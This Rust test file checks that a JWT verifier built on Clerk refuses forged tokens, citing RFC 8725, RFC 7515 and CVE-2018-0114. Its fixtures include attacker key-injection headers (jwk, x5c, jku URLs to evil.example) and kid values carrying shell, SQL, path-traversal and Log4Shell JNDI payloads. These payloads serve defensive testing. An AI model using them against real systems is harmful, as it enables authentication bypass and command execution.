//! Keys and rules that a token's header names: RFC 8725 sections 3.10 to 3.12, RFC 7515 sections 4.1 and 10.12,
//! CVE-2018-0114.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use portal_sdk::key::KeySet;
use serde_json::{Value, json};

use super::signing::{KEY_ID, SigningKey, header, message, payload, with_signature};
use super::transport::Via;
use super::victim::{Route, Victim, live};

/// Members of a header that name, carry or change a key or the rules of verification.
fn members() -> Vec<Value> {
    let attacker = SigningKey::foreign();
    let (jwk, certificate) = (attacker.jwk(KEY_ID), STANDARD.encode(attacker.spki()));
    let urls = [
        "https://evil.example/jwks",
        "http://127.0.0.1:1/",
        "file:///dev/zero",
        "data:application/json,{}",
        "//x",
    ];
    let mut members = vec![
        json!({ "jwk": jwk }),
        json!({ "jwk": { "kty": "oct", "k": "AA" } }),
        json!({ "jwks": { "keys": [jwk] } }),
        json!({ "key": attacker.pem() }),
        json!({ "x5c": [certificate] }),
        json!({ "x5c": certificate }),
        json!({ "x5t": "AAAA", "x5t#S256": "AAAA" }),
        json!({ "epk": jwk, "apu": "AA", "apv": "AA" }),
        json!({ "iss": "https://evil.example", "sub": "user_admin", "exp": 9_999_999_999_u64 }),
        json!({ "p2s": "AA", "p2c": 2_147_483_647 }),
        json!({ "crit": ["exp"], "exp": 1 }),
        json!({ "crit": ["b64"], "b64": false }),
        json!({ "crit": [] }),
        json!({ "crit": "exp" }),
        json!({ "crit": [null, 1, "alg"] }),
        json!({ "b64": false }),
        json!({ "zip": "DEF" }),
        json!({ "cty": "JWT" }),
        json!({ "enc": "A256GCM" }),
        json!({ "nonce": "n", "url": "https://clerk.example.com", "ppt": "x", "svt": "x" }),
    ];
    for url in urls {
        members.push(json!({ "jku": url, "x5u": url }));
    }
    members
}

#[test]
fn token_of_another_key_is_signed_out_whatever_key_its_header_brings() {
    let victim = Victim::new();
    let attacker = SigningKey::foreign();
    for members in members() {
        let token = attacker.token(header(&members), payload(&json!({})));
        victim.assert_refused(&members.to_string(), token);
    }
    assert_eq!(victim.clerk.calls(), ["jwks"]);
}

/// Members that a verifier does not understand are ignored (RFC 7515 section 4), and Clerk's package ignores `crit` too.
/// That is harmless here: only the instance could sign such a header, and no member changes key, algorithm or message.
#[test]
fn members_of_a_genuine_header_change_nothing() {
    let victim = Victim::new();
    for members in members() {
        let token = SigningKey::of_instance().token(header(&members), payload(&json!({})));
        victim.assert_accepted(&members.to_string(), token);
    }
}

/// RFC 7797: the signature of an unencoded payload covers other bytes than that of an encoded one.
#[test]
fn signature_over_an_unencoded_payload_is_signed_out() {
    let victim = Victim::new();
    let payload = payload(&json!({}));
    for members in [json!({ "b64": false, "crit": ["b64"] }), json!({ "b64": false })] {
        let header = header(&members);
        let message = message(&header, &payload);
        let encoded_header = message.split('.').next().unwrap();
        let signature = SigningKey::of_instance().sign(format!("{encoded_header}.{payload}").as_bytes());
        victim.assert_refused("signed unencoded", with_signature(&message, &signature));
        let unencoded = format!("{encoded_header}.{payload}");
        victim.assert_refused("sent unencoded", with_signature(&unencoded, &signature));
        victim.assert_refused("detached", with_signature(&format!("{encoded_header}."), &signature));
    }
}

/// Key IDs that other verifiers pass to a file system, a database, a shell or a URL.
fn key_ids() -> Vec<Value> {
    let texts = [
        "",
        " ",
        "ins_1 ",
        " ins_1",
        "INS_1",
        "ins_1\0",
        "ins_1\n",
        "ins_1\r\nX-Injected: 1",
        "ins_1,ins_2",
        "ins",
        "ins_",
        "ins_11",
        "*",
        "null",
        "undefined",
        "__proto__",
        "constructor",
        "toString",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "https://evil.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' -- ",
        "; rm -rf /",
        "$(id)",
        "|id",
        "%00",
        "%2e%2e%2f",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "\u{1b}[31m",
        "\u{202e}1_sni",
        "ins_\u{661}",
        "<script>",
    ];
    let values = [
        json!(5),
        json!(0),
        json!(true),
        json!(null),
        json!([]),
        json!([KEY_ID]),
        json!({}),
        json!({ "kid": KEY_ID }),
    ];
    texts
        .into_iter()
        .map(Value::from)
        .chain(["k".repeat(5_000).into()])
        .chain(values)
        .collect()
}

/// A token whose header has exactly this `kid`, even `null`.
fn named(key: &SigningKey, key_id: &Value) -> String {
    let header = header(&json!({})).replace("\"ins_1\"", &key_id.to_string());
    key.token(header, payload(&json!({})))
}

/// A key is found by its exact ID in the key set only. The one exception to signed out is the answer 503 to an ID that was
/// not looked up yet (G6); it costs one fetch per interval.
#[test]
fn unknown_or_malformed_key_id_selects_no_key() {
    let victim = Victim::new();
    let (mut fetches, mut intervals) = (1, 0);
    for key_id in key_ids() {
        for key in [SigningKey::of_instance(), SigningKey::foreign()] {
            for via in [Via::Bearer, Via::SuffixedCookie] {
                let token = named(key, &key_id);
                let field = via.field(token.as_bytes()).unwrap();
                for route in [Route::GuardedPage, Route::ExtractedByScript] {
                    let answer = victim.ask_and_wait(route, "", std::slice::from_ref(&field));
                    answer.assert_not_signed_in(&format!("{key_id}, {via:?}, {route:?}"));
                    let is_expected = matches!(answer.status, 200 | 303 | 307 | 401 | 503);
                    assert!(is_expected, "{key_id}, {via:?}: {}", answer.status);
                }
            }
        }
        let now = victim.clerk.calls().len();
        assert!(now <= fetches + 1, "{key_id}: more than one fetch in an interval");
        if now > fetches {
            victim.advance(Duration::from_secs(10));
            (fetches, intervals) = (now, intervals + 1);
        }
    }
    assert!(intervals > 30, "each unknown ID was looked up: {intervals}");
}

/// Once an ID is known to be unknown, its tokens are signed out like others.
#[test]
fn token_of_a_looked_up_unknown_key_is_signed_out() {
    let victim = Victim::new();
    let token = named(SigningKey::foreign(), &"ins_attacker".into());
    let (name, value) = Via::Bearer.field(token.as_bytes()).unwrap();
    let answer = victim.ask_and_wait(Route::ExtractedByScript, "", &[(name, value)]);
    assert_eq!(answer.status, 401);
    assert_eq!(victim.clerk.calls(), ["jwks", "jwks"]);
    victim.assert_refused("looked up", token);
}

/// With a PEM key, Clerk's package and ours do not read `kid`: the key is the only one, so that the ID selects nothing.
#[test]
fn key_id_is_not_read_with_a_pem_key() {
    let victim = Victim::cold(live().jwt_key(SigningKey::of_instance().pem()));
    for key_id in key_ids() {
        victim.assert_accepted(&key_id.to_string(), named(SigningKey::of_instance(), &key_id));
        victim.assert_refused(&key_id.to_string(), named(SigningKey::foreign(), &key_id));
    }
    assert!(victim.clerk.calls().is_empty());
}

/// Each key of the set verifies the tokens with its own ID only.
#[test]
fn token_with_the_id_of_another_key_is_signed_out() {
    let (one, other) = (SigningKey::of_instance(), SigningKey::foreign());
    let victim = Victim::cold(live());
    let keys = json!({ "keys": [one.jwk(KEY_ID), other.jwk("ins_other")] });
    victim.clerk.set_jwks(Ok(KeySet::from_json(&keys)));
    victim.warm_up(&one.session(&json!({})));
    victim.assert_accepted("ins_other", named(other, &"ins_other".into()));
    victim.assert_refused("ins_other by ins_1", named(one, &"ins_other".into()));
    victim.assert_refused("ins_1 by ins_other", named(other, &KEY_ID.into()));
}

/// Of several members with one name the last counts, for every reader (RFC 7515 section 4 allows that).
#[test]
fn last_of_several_header_members_counts() {
    let victim = Victim::new();
    let key = SigningKey::of_instance();
    let rest = r#""cat":"cl_B7d4PD111AAA","typ":"JWT""#;
    for (members, is_accepted) in [
        (r#""alg":"none","alg":"RS256","kid":"ins_1""#, true),
        (r#""alg":"RS256","alg":"none","kid":"ins_1""#, false),
        (r#""alg":"RS256","\u0061lg":"none","kid":"ins_1""#, false),
        (r#""\u0061lg":"none","alg":"RS256","kid":"ins_1""#, true),
        (r#""\u0061l\u0067":"RS256","\u006bid":"ins\u005f1""#, true),
        (r#""alg":"RS256","kid":"other","kid":"ins_1""#, true),
        (r#""alg":"RS256","kid":"ins_1","kid":5"#, false),
        (r#""alg":"RS256","kid":"ins_1","kid":null"#, false),
        (r#""alg":["none"],"alg":"RS256","kid":"ins_1""#, true),
        (r#""alg":"RS256","alg":null,"kid":"ins_1""#, false),
        // Names have one case.
        (r#""ALG":"RS256","kid":"ins_1""#, false),
        (r#""Alg":"RS256","kid":"ins_1""#, false),
        (r#""alg":"RS256","KID":"ins_1""#, false),
        (r#""alg":"RS256","ALG":"none","kid":"ins_1","Kid":"x""#, true),
        (r#""alg ":"RS256","kid":"ins_1""#, false),
        (r#""alg":"RS256","cat":"cl_B7d4PD333AAA","kid":"ins_1""#, true),
        (r#""typ":"at+jwt","alg":"RS256","kid":"ins_1""#, true),
    ] {
        let header = format!("{{{members},{rest}}}");
        let token = key.token(&header, payload(&json!({})));
        match is_accepted {
            true => victim.assert_accepted(members, token),
            false => victim.assert_refused(members, token),
        }
        victim.assert_refused(members, SigningKey::foreign().token(&header, payload(&json!({}))));
    }
}
